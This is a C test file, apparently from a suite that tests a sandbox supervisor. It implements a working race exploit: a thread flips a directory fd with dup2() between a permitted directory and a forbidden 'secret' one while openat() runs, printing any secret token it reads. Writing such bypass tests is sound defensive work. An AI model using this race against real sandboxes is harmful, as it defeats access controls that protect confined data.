/* read_race_dirfd_flip: one thread calls openat(N, "key") in a loop while
 * a second thread keeps dup2()ing fd N between a directory fd of free/
 * (holding a harmless "key") and an O_PATH fd of secret/, so the dirfd the
 * supervisor resolved may not be the one the kernel uses. Runs until it
 * wins, at most PERMWRAP_RACE_SECONDS.
 * Judged by: the token on stdout. */
#include "common.h"
#include <pthread.h>
#define N 100
static volatile int stop;
static int dfree, dsecret;
static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		dup2(dsecret, N);
		dup2(dfree, N);
	}
	return NULL;
}
int main(void)
{
	pthread_t t;
	long opens = 0, odd = 0;
	int fd = open("free/key", O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, "ALLOWED\n", 8) != 8)
		return note("create free/key: %s", strerror(errno)), 1;
	close(fd);
	dfree = open("free", O_PATH | O_DIRECTORY);
	dsecret = check(open("secret", O_PATH | O_DIRECTORY), "open secret O_PATH");
	if (dfree < 0 || dsecret < 0)
		return 1;
	dup2(dfree, N);
	pthread_create(&t, NULL, flipper, NULL);
	while (race_on()) {
		char got[256];
		fd = openat(N, "key", O_RDONLY);
		if (fd < 0)
			continue;
		opens++;
		ssize_t n = read(fd, got, sizeof got);
		close(fd);
		if (n > 0 && !(n == 8 && memcmp(got, "ALLOWED\n", 8) == 0)) {
			race_won();
			/* print the first few only: one is proof enough */
			if (++odd <= 20 && write(1, got, n) != n)
				break;
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	race_done();
	note("%ld opens succeeded, %ld returned something other than free/key", opens, odd);
	return 0;
}
